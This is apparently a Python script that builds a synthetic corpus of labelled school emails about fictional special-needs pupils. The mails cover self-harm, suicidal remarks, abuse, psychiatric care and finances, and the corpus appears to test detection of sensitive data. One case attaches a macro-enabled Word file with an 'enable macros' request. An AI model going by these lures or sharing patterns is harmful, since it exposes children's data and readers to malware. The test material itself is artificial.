    rules=['sensitive'], cats=['medical', 'psychosocial', 'care'], about=['milan', 'olivier', 'ruben'],
    note='team-meeting table with initials: medication side effects, refusing the bus, care file', tags=['table'])

add('bus-incident-zakaria', ST['martine'], [ST['bus'], ST['lien']], 'bus lijn 4 vanmorgen',
    """Marc, Lien,

Even laten weten wat er vanmorgen gebeurd is op lijn 4. Aan de Tiensesteenweg stond de bus 10 minuten stil door de werken. Zakaria (4D) begon te roepen en met zijn hoofd tegen het raam te bonken. Ik heb geprobeerd hem zijn koptelefoon te geven maar hij sloeg die uit mijn hand en heeft mij aan mijn arm gekrabd (niet erg). De andere kinderen waren erg geschrokken, Joppe zat te huilen.
Hij is pas rustig geworden toen we op school waren en Lien hem meegenomen heeft naar de time-out.

Volgens mij moet hij vooraan zitten, weg van het raam. En als de bus stilstaat, beter iets vertellen over hoe lang het nog duurt.

Martine""",
    cte='8bit', rules=['sensitive'], cats=['psychosocial'], about=['zakaria'],
    note='bus supervisor describes one pupil losing control on the bus without naming it')

add('medicatie-thomas-dosis', ST['verpl'], [ST['jan']], 'Thomas 6A middag',
    """Jan,

Vanaf maandag krijgt Thomas 's middags een extra 10 mg. Mama heeft het nieuwe voorschrift van de kinderpsychiater meegegeven. Ik geef het om 12u30 in het verpleeglokaal, maar op woensdag ben ik er niet: kan jij dan zorgen dat hij het neemt? Het zit in het bakje van 6A.
Hij wordt er soms misselijk van, dus liefst na het eten.

Hilde""",
    cte='qp', rules=['sensitive'], cats=['medical'], about=['thomas'], note='nurse tells a teacher about a medication dose change prescribed by a child psychiatrist')

kine_txt = """VERSLAG KINESITHERAPIE - eerste trimester
Leerling: Wout Claessens (5A)
Therapeut: Pieter Janssens

Beginsituatie: verlaagde spierspanning, loopt vaak op de tenen, snel vermoeid bij trappen lopen. Draagt sinds de zomer steunzolen (podoloog).
Doelen: evenwicht, uithouding, fietsen op de fietsroute van school naar de stageplaats.
Evolutie: evenwicht duidelijk beter, fietst nu 2 km zonder pauze. Valt nog 1 tot 2 keer per week bij moeheid.
Advies: therapie 2x per week verderzetten; nieuwe evaluatie door de revalidatiearts in maart.
"""
add('kineverslag-wout', ST['kine'], [ST['bart']], 'kineverslag Wout voor oudercontact',
    "Bart, in bijlage mijn verslag over Wout voor het oudercontact van donderdag. Als de ouders vragen hebben over de steunzolen, mogen ze mij altijd bellen.\nPieter",
    attach=[('verslag kine Wout Claessens.txt', kine_txt, 'text/plain')], cte='qp',
    rules=['sensitive'], cats=['medical', 'care'], about=['wout'], note='physiotherapy report of one pupil as .txt attachment to the class teacher',
    tags=['attachment-txt'])

add('handelingsplan-lore-clb', ST['ine'], [ST['clb']], 'aangepast handelingsplan Lore (4C)',
    """Dag Evi,

Zoals besproken het aangepaste handelingsplan van Lore in het kort, voor jullie dossier:

- Doel 1: zelf aangeven wanneer het te veel wordt (met de kleurenkaart in plaats van weglopen)
- Doel 2: 20 minuten zelfstandig werken in de praktijkles
- Ondersteuning: vaste werkplek aan het raam met scherm, koptelefoon, time-outkaart die ze zelf mag gebruiken (max. 2x per dag)
- Therapie: ergo 1x per week (schrijfmotoriek), logo stopt na de kerstvakantie
- Thuis: mama gebruikt hetzelfde kleurensysteem

Volgend overleg met mama en papa (ze komen apart) in februari.

Groetjes,
Ine""",
    cte='qp', rules=['sensitive'], cats=['care'], about=['lore'], note='individual education plan summary of one pupil sent to the CLB worker')

add('ayoub-papa-vast', ST['clb'], [ST['zorg']], 'Ayoub (5B) - vertrouwelijk',
    """Koen,

Korte update na mijn gesprek met de mama van Ayoub. Papa zit sinds twee weken in de gevangenis in Leuven Centraal, voor hoelang is nog niet duidelijk. Mama wil niet dat de klasgenoten het weten. Ayoub zelf zegt tegen iedereen dat papa "in Marokko aan het werken is".
Wil jij de klasleraar en de busbegeleidster op de hoogte brengen dat hij het moeilijk heeft, zonder details? Hij heeft dinsdag en donderdag een gesprekje bij mij.

Evi""",
    cte='qp', rules=['sensitive'], cats=['family'], about=['ayoub'], note='CLB worker tells care coordinator that a pupil\'s father is in prison')

add('noor-leefgroep-bus', ST['zorg'], [ST['ine'], ST['bus']], 'Noor 4C - nieuwe verblijfplaats',
    """Dag Ine, dag Marc,

Noor verblijft sinds vrijdag in een leefgroep in Heverlee, op beslissing van de jeugdrechter. Haar consulent heeft me vanmorgen gebeld. Ze gaat voorlopig enkel om het andere weekend naar papa.

Praktisch:
- Marc: vanaf morgen wordt ze opgehaald aan de leefgroep (adres stuur ik je via Smartschool), niet meer thuis.
- Ine: de opvoeders van de leefgroep nemen het heen-en-weerschriftje over. Contact met papa enkel via de consulent.

Ze weet dat ik het jullie vertel. Ze wil er in de klas niet over praten.

Koen""",
    cte='qp', rules=['sensitive'], cats=['family'], about=['noor'], note='pupil placed in a residential group by the youth judge; transport change with reasons')

add('ocmw-rekening-demir', ST['boekh'], [EXT['ocmw']], 'Schoolrekening Esra Demir (5B)',
    """Geachte,

Mevrouw Demir, moeder van Esra Demir (klas 5B), liet ons weten dat het OCMW zou tussenkomen in de schoolkosten van haar dochter.
Het openstaande bedrag voor september tot december is € 246,50 (middagmalen, zwemmen, werkkledij stage).
Kan u bevestigen of de tussenkomst werd goedgekeurd en of wij de rekening rechtstreeks aan u mogen bezorgen?

Met vriendelijke groeten,
Veerle Hendrickx
boekhouding Sint-Pieterscollege campus De Linde""",
    kind='html', cte='qp', rules=['sensitive'], cats=['financial'], about=['esra'], note='unpaid school bill of one family sent to the OCMW, which will pay')

add('femke-armen-turnles', ST['kine'], [ST['zorg']], 'Femke 5C',
    """Koen,

Ik wil je iets laten weten. Vandaag in de turnles zag ik bij Femke verse snijwondjes op haar onderarmen, een stuk of zes, in rijtjes. Ze trok meteen haar mouwen naar beneden toen ze zag dat ik keek. Ik heb niets gezegd waar de anderen bij waren.
Ik weet niet of de ouders het weten. Kan jij of Evi haar vandaag of morgen nog zien?

Pieter""",
    cte='8bit', rules=['sensitive'], cats=['psychosocial'], about=['femke'], note='physio reports fresh cuts on a pupil\'s arms without naming self-harm')

add('seppe-opa-gestorven', ST['fatima'], [ST['kine'], ST['logo'], ST['martine'], ST['jelle']], 'Seppe',
    """Dag collega's,

Laat het even weten aan wie met Seppe werkt: zijn opa, bij wie hij elke woensdag en in de vakanties was, is zaterdag gestorven. Mama zegt dat Seppe het nog niet echt beseft, hij vraagt telkens wanneer hij terug naar opa mag.
De begrafenis is vrijdag, hij is die dag afwezig.
Hij kan de komende tijd sneller overstuur zijn. Als hij over opa begint, gewoon luisteren, niet te veel uitleggen. Mama zoekt zelf nog hoe ze het hem gaat vertellen met prenten.

Fatima
klas 1B""",
    cte='qp', rules=['sensitive'], cats=['family'], about=['seppe'], note='death of a grandfather who cared for a pupil, shared among colleagues')

add('sara-kringgesprek', ST['an'], [ST['zorg']], 'iets wat Sara vertelde',
    """Koen, mag ik je even iets doorgeven (ik zet het straks ook in het LVS).

In het kringgesprek vertelde Sara (2A) dat papa mama weer "tegen de kast geduwd" had en dat mama daarna op de grond zat te huilen. Ze zei het heel nuchter, alsof het gewoon was. Ze zei ook dat ze 's nachts onder haar bed slaapt "als papa roept".
Ik heb het niet verder bevraagd. Wat doen we hiermee? Moet dit naar het CLB of naar het VK?

An""",
    cte='qp', rules=['sensitive'], cats=['family'], about=['sara'], note='teacher passes on a pupil\'s account of violence at home, without the word')

add('jules-aanval-refter', ST['verpl'], [par('jules')], 'Jules vandaag',
    """Beste mevrouw Thys,

Zoals ik u al telefonisch liet weten: Jules had vandaag om 11u10 in de refter een aanval van ongeveer 3 minuten. We hebben volgens zijn noodplan na 2 minuten de Buccolam gegeven. Daarna heeft hij een uur geslapen in het verpleeglokaal. Hij was daarna moe maar wel aanspreekbaar en heeft een beetje gegeten.
Hij neemt de bus zoals gewoonlijk naar huis, de begeleidster weet ervan.

Wilt u ons laten weten of de neuroloog iets aanpast? De gebruikte dosis Buccolam moeten we vervangen.

Met vriendelijke groeten,
Hilde Maes
verpleegkundige
""" + SCHOOL_TEL,
    cte='qp', rules=['sensitive', 'personal_data'], cats=['medical'], about=['jules'],
    note='nurse reports a seizure and emergency medication to the pupil\'s own mother (correctly addressed); school phone in signature')

add('werkkledij-jasper-solidariteitsfonds', ST['dir'], [ST['boekh']], 'werkkledij Jasper 5D',
    """Veerle,

De papa van Jasper (5D) is zijn werk kwijt en ze geraken niet rond deze maand. De werkschoenen en de overall voor de stage (samen € 96) kunnen ze niet betalen. Mogen we dat uit het solidariteitsfonds halen? En de rekening van november graag in twee keer laten betalen, mama komt volgende week langs om het af te spreken.
Niet op de gewone rekening zetten aub.

Griet""",
    cte='8bit', rules=['sensitive'], cats=['financial'], about=['jasper'], note='family cannot pay placement workwear; solidarity fund and payment plan')

add('lena-zwanger-stage', ST['jobcoach'], [ST['dir'], ST['verpl']], 'Lena 6B - stage Ter Meren',
    """Dag Griet, dag Hilde,

Lena heeft mij gisteren verteld dat ze 14 weken zwanger is. Mama weet het, de vriend ook. Ze wil haar stage in woonzorgcentrum Ter Meren verderzetten, maar tillen en bedden opmaken gaat niet meer volgens de vroedvrouw.
Ik stel voor dat ik met de mentor bekijk of ze in de cafetaria of het onthaal kan. Ik zeg aan Ter Meren enkel dat ze om medische redenen niet mag tillen, tenzij Lena zelf meer wil vertellen.

Hilde, zij heeft ook vragen over de consultaties, kan jij haar eens zien?

Tom""",
    kind='alt', cte='qp', rules=['sensitive'], cats=['medical'], about=['lena'], note='pupil\'s pregnancy and placement adjustment shared between job coach, principal and nurse')

to_rows = [['Dag', 'Uur', 'Aanleiding', 'Duur', 'Hoe'],
           ['ma', '9u15', 'andere leerkracht dan gepland', '25 min', 'zelf mee naar time-out'],
           ['di', '13u40', 'brandoefening', '50 min', 'vastgehouden door 2 begeleiders (schopte), daarna time-out'],
           ['do', '10u05', 'ruzie over de computer', '15 min', 'zelf gevraagd'],
           ['vr', '8u50', 'kwam al gespannen van de bus', '40 min', 'time-out, mama verwittigd']]
tob = ["Dries,", "", "Overzicht van de time-outmomenten van Vic (3D) deze week, zoals je vroeg voor het MDO:", "",
       ('table', to_rows), "",
       "Het vasthouden op dinsdag is genoteerd in het incidentenregister en mama is dezelfde dag gebeld. Ik denk dat we zijn handelingsplan moeten aanpassen: hij geeft zelf veel minder signalen dan vroeger.",
       "", "Lien"]
add('timeout-registratie-vic', ST['lien'], [ST['ortho']], 'time-out Vic deze week', outlook_text(tob), kind='alt', html=outlook_html(tob),
    rules=['sensitive'], cats=['psychosocial', 'care'], about=['vic'], note='table of one pupil\'s time-out episodes including a physical restraint', tags=['table'])

add('liam-difficult-morning-en', ST['joke'], [par('liam')], 'Liam today',
    """Dear Ms Murphy,

I wanted to let you know that Liam had a difficult morning. After the fire drill at 10 o'clock he covered his ears, crawled into the coat room and stayed there for almost an hour. He would not let anyone come close. We used his calm-down plan (dim light, his weighted blanket, no talking) and after lunch he joined the group again.

Sarah, our speech therapist, would like to discuss her report with you and suggests using a picture card to warn him before loud events. Could you come in next week? Tuesday or Thursday after 3 pm would suit us.

Kind regards,
Joke Van Damme
Class teacher 1C""",
    cte='qp', lang='en', rules=['sensitive'], cats=['psychosocial', 'care'], about=['liam'],
    note='English mail to the pupil\'s own mother describing a crisis after a fire drill and therapy follow-up (correctly addressed)')

add('ines-peur-bus-fr', ST['jelle'], [par('ines')], 'Inès - le bus',
    """Bonjour Madame Mukendi,

Inès a beaucoup pleuré ce matin en arrivant à l'école. Elle m'a dit qu'elle a peur dans le bus, parce que deux garçons crient et tapent sur les sièges. Depuis deux semaines elle ne mange presque plus à midi et elle se gratte les mains jusqu'au sang.

Nous allons lui donner une place fixe à l'avant, à côté de l'accompagnatrice. Mme Claes, du CLB, propose aussi un rendez-vous avec vous pour en parler. Est-ce que le jeudi 21 novembre à 14h vous convient ?

Bien à vous,
Jelle Stroobants
titulaire 3B""",
    cte='qp', lang='fr', rules=['sensitive'], cats=['psychosocial', 'care'], about=['ines'],
    note='French mail to the pupil\'s own mother about anxiety on the bus and a CLB appointment (correctly addressed)')

jpg = b'\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00' + hashlib.sha256(b'schriftje').digest() * 40 + b'\xff\xd9'
add('scan-schriftje-luna', ST['eline'], [ST['verpl'], ST['martine']], 'FW: schriftje Luna',
    """Hilde, Martine,

Mama van Luna heeft een foto van het heen-en-weerschriftje gemaild (in bijlage). Wat erin staat, in het kort:
- Luna heeft deze nacht bijna niet geslapen, ze was heel onrustig.
- Mama moet morgen zelf geopereerd worden en blijft drie dagen in het ziekenhuis. Papa woont niet meer bij hen.
- Oma brengt Luna morgen en haalt haar af, de bus moet dus niet komen (Martine).
- Luna weet niet goed wat er gaat gebeuren, mama vraagt om er niet te veel over te praten.

Eline""",
    attach=[('schriftje_luna_20241105.jpg', jpg, 'image/jpeg')], cte='qp',
    rules=['sensitive'], cats=['family'], about=['luna'], note='scanned communication notebook summarised: mother to hospital, father left, grandmother takes over',
    tags=['attachment-jpg'])

add('aaron-overstap-dagcentrum', ST['zorg'], [ST['dir']], 'Aaron 2D - bespreking klassenraad',
    """Griet,

Na de klassenraad van 2D: voor Aaron stellen we voor om met het CLB een overstap naar opleidingsvorm 1 of naar een dagcentrum te bekijken. Ook met veel ondersteuning (1-op-1 in de voormiddag, aangepast rooster) lukt het hier niet meer; hij zit meer in de time-out dan in de klas.
Evi (CLB) wil eerst een gesprek met de ouders en een nieuw multidisciplinair verslag. Kan jij bij het gesprek zijn op 5 december?

Koen""",
    cte='qp', rules=['sensitive'], cats=['care'], about=['aaron'], note='proposal to redirect one pupil to another education form or day centre')

add('amber-ongelukje-eenvoudig', ST['bart'], [par('amber')], 'Amber vandaag',
    """Dag mama van Amber,

Amber had vandaag weer een ongelukje. Ze heeft in haar broek geplast.
Wij hebben haar geholpen. Ze heeft de reservekleren aan.
De natte kleren zitten in een zak in haar boekentas.

Kan u morgen nieuwe reservekleren meegeven?
Dank u.

Meester Bart""",
    cte='qp', rules=['sensitive'], cats=['medical'], about=['amber'],
    note='simple Dutch to the pupil\'s own mother about incontinence (correctly addressed)', tags=['simple-language'])

add('amira-allergie-kookles', ST['hanne'], [ST['fatima'], ST['kaat']], 'kookles 1A woensdag',
    """Fatima, Kaat,

Woensdag bakken we koekjes met 1A. Opgelet voor Amira: zij is zwaar allergisch aan noten en pinda, haar EpiPen zit in het voorste vak van haar boekentas. Ik maak alles zonder noten, maar let op met koekjes die kinderen zelf meebrengen.
Bij jeuk of dikke lippen meteen Hilde roepen.

Hanne""",
    cte='qp', rules=['sensitive'], cats=['medical'], about=['amira'], note='allergy and EpiPen of a named pupil shared with colleagues for a cooking class')

add('kato-opname', ST['sofie'], [ST['kine'], ST['hanne'], ST['gert'], ST['martine']], 'Kato (6C)',
    """Dag collega's,

Kato is sinds dinsdag opgenomen op de jongerenafdeling van het psychiatrisch ziekenhuis in Kortenberg. Ze blijft er minstens drie weken. Mama vraagt uitdrukkelijk om de klasgenoten niet te vertellen waarom, we zeggen enkel dat ze "een tijdje niet naar school kan".
Martine, de bus moet dus niet langs.
Wie haar een kaartje wil sturen, mag het aan mij geven.

Sofie""",
    kind='alt', cte='qp', rules=['sensitive'], cats=['medical', 'psychosocial'], about=['kato'], note='pupil admitted to a psychiatric hospital, shared among colleagues')

mats_inner = """Dag juf An,

Ik wil u laten weten dat Hans en ik uit elkaar gaan. Hans is vorige week verhuisd naar een appartement in Wilsele. Mats zal om de week bij hem wonen, van maandag tot maandag.
Mats vindt het heel moeilijk. Hij slaapt slecht en hij vraagt de hele tijd waarom papa zijn dozen heeft meegenomen. Hans betaalt ook zijn deel van de schoolrekening niet meer, dat regel ik wel met de school.

Kan de bus hem om de week in Wilsele ophalen?

Groetjes,
An Daems"""
add('fw-mats-apart', ST['an'], [ST['bus']], 'Fwd: Mats',
    "Marc, zie hieronder, voor de bus van Mats vanaf volgende week. Kan jij dat regelen? Ik heb mama gezegd dat jij haar belt.\nAn" +
    fwd_inline('An Daems <an.daems.devos@gmail.com>', 'zo 6 okt. 2024 om 21:14', 'Mats', 'an.devos@sintpieterscollege.be', mats_inner),
    cte='base64', rules=['sensitive'], cats=['family', 'financial'], about=['mats'],
    note='teacher forwards a mother\'s mail about separation and unpaid share of the bill to the transport coordinator', tags=['fwd'])

kr_rows = [['Leerling', 'Stage / attitudes', 'Zorg', 'Besluit'],
           ['Jarne M.', 'stage Orbis goed, stipt', 'jobcoach 1x/week', 'stage verlengen tot juni'],
           ['Hatice Y.', 'goede stage WZC, moe in de ochtend', 'CLB volgt op: veel ruzies thuis, broer is het huis uit gezet', 'gesprek met mama (met tolk)'],
           ['Brent V.', 'stage garage: twee keer weggelopen na kritiek', 'IHP aanpassen: pauzekaart op stage, wekelijks evaluatiemoment', 'nieuwe afspraak met mentor']]
krb = ["Collega's,", "", "Verslag klassenraad 6D (enkel de punten per leerling):", "", ('table', kr_rows), "",
       "Opmerkingen voor het LVS graag voor vrijdag.", "", "Mehmet"]
add('klassenraad-6d', ST['mehmet'], [ST['jobcoach'], ST['zorg'], ST['clb']], 'verslag klassenraad 6D', outlook_text(krb),
    kind='alt', html=outlook_html(krb), rules=['sensitive'], cats=['care', 'family', 'psychosocial'], about=['jarne', 'hatice', 'brent'],
    note='class council table with names: family conflicts followed by the CLB, behaviour on placement, adapted plan', tags=['table'])

zofia_txt = """Dag mevrouw Nowak,

Hier is het verslag van de logopedie van Zofia. Ik schrijf het kort en eenvoudig.

- Zofia spreekt meer in de klas. Ze zegt nu zelf "ik wil pauze".
- Ze gebruikt haar communicatieboekje elke dag.
- Lange zinnen begrijpt ze nog moeilijk. Korte zinnen en prenten helpen.
- Doel na de kerstvakantie: zelf iets vragen aan de kassa (winkel).

Thuis kan u helpen: korte zinnen, en de prenten uit het boekje gebruiken.

---
Tłumaczenie (automatyczne):
Zofia mówi więcej w klasie. Sama mówi teraz "chcę przerwę".
Codziennie używa swojej książeczki do komunikacji.
Długie zdania są dla niej jeszcze trudne. Pomagają krótkie zdania i obrazki.
Cel po feriach: samodzielnie poprosić o coś przy kasie.
---

Groetjes,
Sarah De Wit
logopedist"""
add('logoverslag-zofia-pl', ST['logo'], [par('zofia')], 'Logopedie Zofia / logopedia Zofia', zofia_txt, cte='base64',
    rules=['sensitive'], cats=['care'], about=['zofia'], note='speech therapy progress report sent to the pupil\'s own Polish-speaking mother, with translation (correctly addressed)',
    tags=['simple-language', 'translated-pl'])

add('onderzoek-ferre-clb', ST['clb'], [ST['zorg']], 'resultaten onderzoek Ferre (3A)',
    """Koen,

De resultaten van het onderzoek van Ferre zijn binnen. WISC-V: totaal IQ 58, verbaal iets sterker dan performaal, verwerkingssnelheid erg laag. Samen met de vragenlijsten van mama bevestigt dat de diagnose van een licht verstandelijke beperking naast de autisme.
Het verslag basisaanbod blijft dus geldig. Ik bespreek het volgende week met mama, daarna kan het in het LVS.

Evi""",
    cte='qp', rules=['sensitive'], cats=['care', 'medical'], about=['ferre'], note='CLB shares test results and diagnosis of one pupil with the care coordinator')

ar_hamza = """Dag mevrouw en meneer Al-Sayed,

Hamza krijgt op school nu een aangepaste lepel en vork.
Hij eet op een mat die niet schuift.
In de ergotherapie oefent hij 2 keer per week met knopen en rits.
Thuis mag hij zelf zijn jas dichtdoen. Dat is goed om te oefenen.

---
ترجمة:
يستخدم حمزة في المدرسة الآن ملعقة وشوكة خاصتين.
يأكل على سجادة لا تنزلق.
في العلاج الوظيفي يتدرب مرتين في الأسبوع على الأزرار والسحّاب.
في البيت يمكنه أن يغلق معطفه بنفسه. هذا تمرين جيد.
---

Vriendelijke groeten,
Lotte Verhaegen
ergotherapeut"""
add('ergo-hamza-ar', ST['ergo'], [par('hamza')], 'Hamza - ergotherapie', ar_hamza, cte='base64',
    rules=['sensitive'], cats=['care'], about=['hamza'], note='occupational therapy measures for one pupil in simple Dutch with Arabic translation, to his own parents (correctly addressed)',
    tags=['simple-language', 'translated-ar'])

add('lisa-bij-oma', ST['zorg'], [ST['bus']], 'ophalen Lisa 4C',
    """Marc,

Lisa (4C) slaapt sinds maandag bij haar oma in Wezemaal, omdat het thuis op dit moment niet veilig is voor haar. Het CLB en de politie zijn op de hoogte. Kan de bus haar vanaf morgen daar ophalen (Kapelstraat, adres ligt bij Nadia)?
Mama mag haar NIET aan de bus afhalen. Als mama aan de bus staat: Lisa op de bus laten en mij of Griet bellen.

Koen""",
    cte='8bit', rules=['sensitive'], cats=['family'], about=['lisa'], note='pupil sleeps at grandmother because home is unsafe; transport change with reasons')

add('jente-bus-uitspraak', ST['martine'], [ST['zorg'], ST['ortho']], 'DRINGEND Jente',
    """Koen, Dries,

Jente (6A) zei vanmiddag op de bus tegen mij dat ze "er liever niet meer zou zijn" en dat niemand haar zou missen. Ze zei ook dat ze al weet hoe. Ik heb haar laten uitspreken en gezegd dat ik dit aan jullie ga vertellen. Ze is gewoon thuis afgezet, mama was er.
Ik weet niet of ik mama moest inlichten, ik heb het niet gedaan. Kunnen jullie mij bellen?

Martine""",
    cte='qp', rules=['sensitive'], cats=['psychosocial'], about=['jente'], note='bus supervisor reports a pupil\'s statement about not wanting to live')

add('senne-beide-ouders', ST['bram'], [par('senne'), par('senne', 2)], 'Senne - afspraken',
    """Beste mevrouw en meneer Bogaerts,

Omdat u allebei vroeg om alle informatie te krijgen sinds u apart woont, stuur ik deze mail naar u beiden.
- De bus haalt Senne op maandag en dinsdag op bij mama, van woensdag tot vrijdag bij papa.
- Het heen-en-weerschriftje gaat mee met Senne naar het huis waar hij die avond is.
- Het oudercontact plannen we voor elk van u apart, zoals u vroeg.

Senne is de laatste weken stiller in de klas. Hij vertelt dat hij zijn konijn mist, dat bij mama is gebleven.

Vriendelijke groeten,
Bram Cuyvers
klas 2B""",
    cte='qp', rules=['sensitive', 'bcc'], cats=['family'], about=['senne'],
    note='separated parents both visible in To (two external addresses); custody arrangement of one pupil')

robbe_notes = """Notities MDO Robbe (2C) - 12/11

- bijt in zijn mouwen en in zijn hand bij elke overgang (vooral van speeltijd naar de klas)
- 2x deze maand een klasgenoot geduwd op de trap
- handelingsplan: pictoschema per halve dag, koptelefoon, 5 min vooraf verwittigen bij elke overgang
- logo: start met PECS-map, ergo: kauwketting proberen
- mama vraagt een gesprek met Dries"""
add('fw-mdo-robbe-naar-thuis', ST['ruth'], [PRIV['ruth']], 'FW: notities MDO Robbe',
    "om thuis verder uit te werken" + fwd_inline('Ruth Daenen <ruth.daenen@sintpieterscollege.be>', 'dinsdag 12 november 2024 16:48',
                                                 'notities MDO Robbe', 'Ruth Daenen', robbe_notes, style='outlook'),
    cte='qp', rules=['sensitive', 'private_account'], cats=['psychosocial', 'care'], about=['robbe'],
    note='teacher forwards her MDO notes about one pupil to her private hotmail', tags=['fwd'])

add('bilal-weg-gmail', PRIV['sofie'], [ST['zorg']], 'Bilal',
    """Koen,

Sorry dat ik van mijn gmail stuur, ik geraak thuis niet in Smartschool of Outlook.
De papa van Bilal belde me net op mijn gsm: Bilal is sinds gisteren na school niet meer thuis geweest. Hij neemt zijn telefoon niet op. Ze hebben de politie verwittigd. Papa denkt dat hij bij "vrienden van de skatepark" is.
Als hij morgen op school opduikt, wil de politie verwittigd worden. Kan jij dat opvolgen? Ik ben er pas om 10u.

Sofie""",
    cte='8bit', rules=['sensitive', 'private_account'], cats=['psychosocial'], about=['bilal'],
    note='teacher writes from her private gmail about a runaway pupil')

add('tibo-thuiszitter-ouder-clb', ST['zorg'], [par('tibo')], 'Tibo - plan om terug te starten',
    """Beste mevrouw Vanhoof,

Bedankt voor het gesprek van gisteren. Ik zet de afspraken nog even op een rij. Ik zet Evi van het CLB in kopie.

Tibo is nu drie weken niet meer op school geweest. Hij blijft bijna de hele dag op zijn kamer en wordt heel boos als u over school begint. We starten heel rustig terug:
- week 1: Koen komt dinsdag en donderdag 30 minuten bij u thuis langs
- week 2: Tibo komt na de bus-uren (15u45) naar school, enkel naar het ergolokaal
- week 3: één uur in de voormiddag, u brengt hem zelf
- het handelingsplan passen we aan; Evi plant een gesprek met de kinderpsychiater

Laat gerust weten als iets niet lukt.

Vriendelijke groeten,
Koen Moens
zorgcoördinator""",
    cc=[ST['clb']], kind='alt', cte='qp', rules=['sensitive', 'bcc'], cats=['psychosocial', 'care'], about=['tibo'],
    note='plan for a pupil who stays home, sent to his mother with the external CLB worker in Cc (two external addresses)')

emre_docm = office_macro('docm', 'Individueel handelingsplan Emre Kaya 4C. Doelen: zelfregulatie, gebruik time-outkaart, '
                                 'omgaan met kritiek in de praktijkles. Ondersteuning: vaste plaats, koptelefoon.')
add('ihp-emre-docm', ST['ortho'], [ST['ine']], 'IHP Emre',
    """Ine,

In bijlage het IHP van Emre met de nieuwe doelen (zelfregulatie, de time-outkaart zelf leren gebruiken, omgaan met kritiek in de praktijkles). Het is het nieuwe sjabloon met de knoppen, dus "macro's inschakelen" als Word erom vraagt.
Kan je het aanvullen voor het gesprek met mama?

Dries""",
    attach=[('IHP_Emre_Kaya_4C.docm', emre_docm, 'application/vnd.ms-word.document.macroEnabled.12')], cte='qp',
    rules=['sensitive', 'attachment'], cats=['care'], about=['emre'], note='individual education plan of one pupil in a macro-enabled Word file',
    tags=['attachment-docm'])

fake_pdf = lambda t: (b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n% " + t.encode() + b"\n" + hashlib.sha256(t.encode()).digest() * 20 + b"\n%%EOF\n")
logozip = zip_bytes([('verslag_logo_NoahV_3A.pdf', fake_pdf('verslag logo Noah V')), ('verslag_logo_JadeW_3A.pdf', fake_pdf('verslag logo Jade W'))])
add('logoverslagen-zip-clb', ST['logo'], [ST['clb']], 'verslagen voor MDO 3A',
    """Dag Evi,

In bijlage de logoverslagen van Noah V. en Jade W. (3A) voor het MDO van donderdag. Bij Noah is het taalbegrip sinds september niet vooruitgegaan, ik stel een nieuw onderzoek voor. Bij Jade wil mama de therapie afbouwen.
Het zip-bestand is beveiligd, het wachtwoord stuur ik apart.

Groetjes
Sarah""",
    attach=[('verslagen_logo_3A.zip', logozip, 'application/zip')], cte='qp',
    rules=['sensitive'], cats=['care'], about=['noahV', 'jade'],
    note='speech therapy findings of two pupils (initials + class); zip with PDFs only, no executable', tags=['attachment-zip'])

add('maxime-crise-fr', ST['yves'], [par('maxime')], 'Maxime - journée difficile',
    """Bonjour Madame Dubois,

Je voulais vous prévenir que Maxime a eu une matinée difficile. Quand on lui a dit que la piscine était annulée, il s'est jeté par terre, a crié et a renversé deux chaises. Il a fallu plus d'une demi-heure dans la salle de calme avant qu'il puisse revenir en classe. Personne n'a été blessé.

Le psychiatre avait proposé d'adapter son traitement après les vacances ; est-ce que c'est déjà fait ? Nous avons l'impression qu'il est plus tendu depuis deux semaines.

Bien à vous,
Yves Smets
titulaire 3C""",
    cte='qp', lang='fr', rules=['sensitive'], cats=['psychosocial', 'medical'], about=['maxime'],
    note='French mail to the pupil\'s own mother describing a crisis and asking about treatment change (correctly addressed)')


# ==============================================================================================
# E. PERSONAL, NOT SENSITIVE (21) - mostly correctly addressed to the pupil's own parent
# ==============================================================================================
add('bus-vertraging-elias', ST['bus'], [par('elias')], 'Bus lijn 2 vertraging',
    """Beste mevrouw Maes,

De bus van lijn 2 heeft vandaag ongeveer 25 minuten vertraging door een ongeval op de E314. Elias zal rond 16u50 thuis zijn in plaats van 16u25.
Hij zit rustig op de bus met zijn muziek.

Met vriendelijke groeten,
Marc Lemmens
leerlingenvervoer""",
    cte='qp', rules=[], about=['elias'], note='bus delay of one pupil told to his own mother (correctly addressed, not sensitive)')

add('brooddoos-rayan', ST['joke'], [par('rayan')], 'brooddoos',
    "Dag mevrouw Bakkali,\n\nDe blauwe brooddoos met de dino's van Rayan lag vanmorgen nog op de bus. Martine heeft ze binnengebracht, ze staat in de klas. Hij neemt ze vandaag mee naar huis.\n\nGroetjes,\njuf Joke",
    cte='8bit', rules=[], about=['rayan'], note='lost lunch box, to the pupil\'s own mother')

add('stagedag-jarne-top', ST['jobcoach'], [par('jarne')], 'Jarne op stage',
    """Dag mevrouw Mertens,

Even een positief berichtje: ik ben vandaag bij Orbis gaan kijken en Jarne heeft super gewerkt. Hij heeft de hele voormiddag dozen gestickerd en gestapeld, zonder fouten. De ploegbaas zei dat hij de stiptste is van de hele ploeg!
Jarne was zelf ook heel trots. Misschien vanavond eens een frietje? :)

Groeten,
Tom""",
    cte='qp', rules=[], about=['jarne'], note='good day at the work placement, to the pupil\'s own mother')

add('verjaardag-ilias', ST['eline'], [par('ilias')], 'verjaardag Ilias vrijdag',
    """Dag mevrouw Ouali,

Vrijdag is Ilias jarig! We vieren het in de klas om 10u met een liedje en een kroon.
Als hij iets wil trakteren mag dat, maar het hoeft zeker niet. Liefst iets zonder noten, want er zijn in de school leerlingen met een allergie.

Groetjes,
juf Eline
klas 1D""",
    cte='qp', rules=[], about=['ilias'], note='birthday in class (no date of birth), to the pupil\'s own mother')

add('sac-natation-chloe', ST['ruth'], [par('chloe')], 'Sac de natation',
    """Bonjour Madame Martin,

Chloé a oublié son sac de natation à l'école vendredi. Il est dans la classe, je le mets dans son cartable aujourd'hui. Le maillot est encore mouillé, pensez à le laver :)

Jeudi prochain, il y a de nouveau piscine.

Bonne journée,
Ruth Daenen
classe 2C""",
    cte='qp', lang='fr', rules=[], about=['chloe'], note='French note about a forgotten swimming bag, to the pupil\'s own mother')

add('fototoestemming-lore', ST['secr'], [par('lore')], 'Re: toestemming foto\'s',
    """Beste meneer Heylen,

Bedankt, we hebben uw toestemming voor foto's op de website en op Smartschool goed ontvangen. Ik heb het aangepast in het leerlingendossier van Lore.
Foto's op Instagram blijven, zoals u aanduidde, niet toegestaan.

Vriendelijke groeten,
Nadia Bouzid
